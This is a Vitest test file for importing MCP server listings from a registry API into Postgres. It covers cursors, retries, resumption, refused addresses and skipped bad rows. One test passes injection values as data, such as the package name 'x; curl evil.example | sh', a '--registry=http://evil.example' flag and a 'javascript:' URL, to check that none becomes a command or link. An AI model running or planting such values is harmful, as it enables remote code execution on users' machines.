// A registry's pages into a real Postgres, from an HTTP server that speaks the official API's format.
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest'
import { findListing } from '#lib/listings/index.ts'
import { type Instance, startInstance } from '#testing/instance.ts'
import type { Problem } from './found.ts'
import { runImport } from './index.ts'
import { registrySource } from './registry-api.ts'
import { type RegistryOptions, serverJson, startRegistry, type TestRegistry } from './testing/registry.ts'

const OPTIONS = { allowPrivate: true, waitsMs: [1, 1] }
let instance: Instance
let registry: TestRegistry | null = null
beforeAll(async () => {
  instance = await startInstance(inject('postgresUrl'))
})
afterEach(async () => {
  await registry?.close()
  registry = null
})
afterAll(() => instance.close())

async function started(options: RegistryOptions): Promise<TestRegistry> {
  registry = await startRegistry(options)
  return registry
}

async function imported(url: string) {
  const problems: Problem[] = []
  const result = await runImport(registrySource(url, OPTIONS), {
    takeOver: true,
    onProblem: (problem) => problems.push(problem),
  })
  return { ...result, problems }
}

describe('the import of a registry', () => {
  it('follows its cursors to the end, and finds everything as it was the second time', async () => {
    const pages = [
      [serverJson('io.test.one/a'), serverJson('io.test.one/b')],
      [serverJson('io.test.one/c')],
      [serverJson('io.test.one/d')],
    ]
    const { url, asked } = await started({ pages })
    expect(await imported(url)).toMatchObject({ outcome: 'done', added: 4, skipped: 0, problems: [] })
    expect(asked.map((query) => query.get('cursor'))).toEqual([null, 'after-1', 'after-2'])
    expect(asked.every((query) => query.get('version') === 'latest')).toBe(true)
    expect(await imported(url)).toMatchObject({ added: 0, changed: 0, same: 4, resumed: false })
  }, 120_000)

  it('keeps how each server is reached, where it is looked up, and when it was', async () => {
    const before = new Date()
    const remote = {
      title: 'Weather',
      websiteUrl: 'https://weather.example/docs?lang=en',
      remotes: [
        { type: 'sse', url: 'https://weather.example/sse' },
        { type: 'streamable-http', url: 'https://weather.example/mcp' },
      ],
    }
    const packaged = {
      repository: { url: 'https://github.com/test/pack', source: 'github' },
      packages: [
        { registryType: 'mcpb', identifier: 'https://pack.example/x.mcpb', transport: { type: 'stdio' } },
        { registryType: 'npm', identifier: '@test/pack', version: '2.1.0', transport: { type: 'stdio' } },
      ],
    }
    const { url } = await started({
      pages: [[serverJson('io.test.two/weather', remote), serverJson('io.test.two/pack', packaged)]],
    })
    await imported(url)
    const weather = await findListing('weather')
    expect(weather).toMatchObject({
      name: 'io.test.two/weather',
      title: 'Weather',
      version: '1.0.0',
      source: { kind: 'registry', url: `${url}/v0.1/servers/io.test.two%2Fweather/versions/latest` },
      homepage: 'https://weather.example/docs?lang=en',
      endpoint: { kind: 'http', url: 'https://weather.example/mcp' },
    })
    expect(weather?.scannedAt.getTime()).toBeGreaterThanOrEqual(before.getTime())
    expect(await findListing('pack')).toMatchObject({
      homepage: 'https://github.com/test/pack',
      endpoint: { kind: 'stdio', command: 'npx -y @test/pack@2.1.0' },
    })
  }, 120_000)

  it('makes no command of a package whose name a shell would read', async () => {
    const evil = (identifier: string) => ({
      packages: [{ registryType: 'npm', identifier, version: '1.0.0; id', transport: { type: 'stdio' } }],
    })
    const { url } = await started({
      pages: [
        [
          serverJson('io.test.three/evil', evil('x; curl evil.example | sh')),
          serverJson('io.test.three/flag', evil('--registry=http://evil.example')),
          serverJson('io.test.three/version', evil('plain')),
          serverJson('io.test.three/script', {
            remotes: [{ type: 'streamable-http', url: 'javascript:alert(1)' }],
            websiteUrl: 'data:text/html,x',
          }),
        ],
      ],
    })
    expect(await imported(url)).toMatchObject({ added: 4, skipped: 0 })
    expect((await findListing('evil'))?.endpoint).toBeNull()
    expect((await findListing('flag'))?.endpoint).toBeNull()
    expect((await findListing('version'))?.endpoint).toEqual({ kind: 'stdio', command: 'npx -y plain' })
    expect(await findListing('script')).toMatchObject({ endpoint: null, homepage: null })
  }, 120_000)

  it('names the place of each bad row and why, skips it, and keeps its neighbours', async () => {
    const { url } = await started({
      pages: [
        [
          serverJson('io.test.four/good'),
          'nonsense',
          serverJson(''),
          serverJson('io.test.four/hid\u202Eden'),
        ],
        [serverJson('io.test.four/last'), serverJson('io.test.four/GOOD', { description: 'Again.' })],
      ],
    })
    const result = await imported(url)
    const host = new URL(url).host
    expect(result).toMatchObject({ added: 2, skipped: 4 })
    expect(result.problems.map(({ place }) => place)).toEqual([
      `${host} page 1, server 2`,
      `${host} page 1, server 3`,
      `${host} page 1, server 4`,
      `${host} page 2, server 2`,
    ])
    expect(result.problems[0]?.reason).toContain('an object is expected')
    expect(result.problems[3]?.reason).toContain('stands in this source already')
    expect(await findListing('good')).toMatchObject({ description: 'What io.test.four/good is for.' })
  }, 120_000)

  it('leaves out what the registry says is deleted or not the latest, without a word', async () => {
    const official = (state: object) => ({ 'io.modelcontextprotocol.registry/official': state })
    const { url } = await started({
      pages: [
        [
          { ...serverJson('io.test.five/gone'), _meta: official({ status: 'deleted' }) },
          { ...serverJson('io.test.five/old'), _meta: official({ status: 'active', isLatest: false }) },
          { ...serverJson('io.test.five/kept'), _meta: official({ status: 'deprecated', isLatest: true }) },
        ],
      ],
    })
    expect(await imported(url)).toMatchObject({ added: 1, skipped: 0 })
    expect(await findListing('kept')).not.toBeNull()
  }, 120_000)

  it('asks again where it was a moment’s trouble', async () => {
    const { url, asked } = await started({
      pages: [[serverJson('io.test.six/a')]],
      instead: (_, count) => (count === 1 ? 503 : count === 2 ? 429 : null),
    })
    expect(await imported(url)).toMatchObject({ outcome: 'done', added: 1 })
    expect(asked).toHaveLength(3)
  }, 120_000)

  it('goes on at the page where it broke off, and begins anew where the cursor is not known any more', async () => {
    let isDown = true
    const pages = [
      [serverJson('io.test.seven/a')],
      [serverJson('io.test.seven/b')],
      [serverJson('io.test.seven/c')],
    ]
    const { url, asked } = await started({
      pages,
      instead: (query) => (isDown && query.get('cursor') === 'after-2' ? 500 : null),
    })
    await expect(imported(url)).rejects.toMatchObject({ code: 'upstream-error' })
    isDown = false
    const before = asked.length
    expect(await imported(url)).toMatchObject({ outcome: 'done', resumed: true, added: 3 })
    expect(asked.slice(before).map((query) => query.get('cursor'))).toEqual(['after-2'])

    isDown = true
    await expect(imported(url)).rejects.toMatchObject({ code: 'upstream-error' })
    await instance.sql(`UPDATE catalogue_import SET position = '3 forgotten' WHERE source = $1`, [
      `registry:${url}/v0.1/servers`,
    ])
    isDown = false
    expect(await imported(url)).toMatchObject({ outcome: 'done', resumed: true })
    expect(asked.slice(-4).map((query) => query.get('cursor'))).toEqual([
      'forgotten',
      null,
      'after-1',
      'after-2',
    ])
  }, 120_000)

  it('ends where another import of the same registry has taken over', async () => {
    const pages = [[serverJson('io.test.eight/a')], [serverJson('io.test.eight/b')]]
    const { url } = await started({ pages })
    const first = registrySource(url, OPTIONS)
    let second: Promise<unknown> = Promise.resolve()
    const result = await runImport(
      {
        ...first,
        async *read(from) {
          for await (const batch of first.read(from)) {
            yield batch
            second = imported(url)
            await second
          }
        },
      },
      { takeOver: true },
    )
    expect(result.outcome).toBe('taken-over')
    expect(await second).toMatchObject({ outcome: 'done', resumed: true })
  }, 120_000)

  it('refuses a registry at an address that this deployment does not connect to', async () => {
    const { url, asked } = await started({ pages: [[serverJson('io.test.nine/a')]] })
    const closed = registrySource(url, { allowPrivate: false, waitsMs: [] })
    await expect(runImport(closed, { takeOver: true })).rejects.toMatchObject({ code: 'address-refused' })
    expect(asked).toEqual([])
    expect(() => registrySource('ftp://registry.example', OPTIONS)).toThrowError(/no address of a registry/)
  }, 120_000)

  it('ends where a registry sends the same page again and again, and where it is none', async () => {
    const pages = [[serverJson('io.test.ten/a')], [serverJson('io.test.ten/b')], []]
    const { url } = await started({ pages, loopAt: 1 })
    await expect(imported(url)).rejects.toThrowError(/same page again and again/)
    await expect(imported(`${url}/elsewhere`)).rejects.toThrowError(/with 404/)
  }, 120_000)
})
